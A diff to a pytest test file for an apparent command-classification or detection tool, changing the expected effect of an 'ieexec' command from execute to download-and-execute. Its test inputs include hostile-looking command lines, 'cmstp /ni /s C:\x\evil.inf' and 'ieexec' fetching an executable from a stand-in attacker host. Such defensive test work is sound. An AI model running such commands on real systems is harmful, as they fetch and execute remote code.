@@ -653,7 +653,7 @@ def test_interpreters_and_shells(command: str, expected: tuple[Effect, ...]) -> 
         pytest.param(r"cmstp /ni /s C:\x\evil.inf", (_e(K.EXECUTE, "C:\\x\\evil.inf", "cmstp"),), id="cmstp"),
         pytest.param(
             "ieexec http://evil.example.com/x.exe",
-            (_e(K.EXECUTE, "http://evil.example.com/x.exe", "ieexec"),),
+            (_e(K.DOWNLOAD_EXECUTE, "http://evil.example.com/x.exe", "ieexec of an address"),),  # S-RULE-182
             id="ieexec",
         ),
         pytest.param(
